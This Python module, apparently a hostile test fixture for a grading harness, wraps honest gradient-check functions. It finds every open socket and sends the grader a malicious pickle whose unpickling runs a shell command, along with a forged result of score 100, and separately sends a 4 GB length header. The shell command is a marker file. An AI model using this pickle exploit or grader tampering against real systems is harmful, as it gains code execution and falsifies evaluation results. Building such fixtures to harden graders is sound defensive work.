"""Writes its own frames to the grader's socket: numerical_gradient sends a pickle whose unpickling
runs a shell command, relative_error a length header of 4 GB.
"""

import os
import pickle
import socket
import stat
import struct

from . import _honest_gradcheck as honest

# -- the attack ----------------------------------------------------------------------

MARKER = "nnkit-hostile-channel_frames"


class _Boom:
    def __reduce__(self):
        return (os.system, (f"touch /tmp/{MARKER}.marker",))


def _channels():
    for fd in range(3, 256):  # every open socket, found without /proc
        try:
            if stat.S_ISSOCK(os.fstat(fd).st_mode):
                yield socket.socket(fileno=os.dup(int(fd)))
        except OSError:
            pass


def _send(payload):
    for channel in _channels():
        with channel:
            try:
                channel.sendall(payload)
            except OSError:
                pass


def numerical_gradient(f, x, h=1e-5):
    body = pickle.dumps({"ok": True, "value": _Boom(), "score": 100})
    _send(struct.pack(">II", len(body) + 4, len(body)) + body)
    return honest.numerical_gradient(f, x, h)


def relative_error(a, b):
    _send(b"\xff\xff\xff\xff" + b"\x80" * 4096)
    return honest.relative_error(a, b)
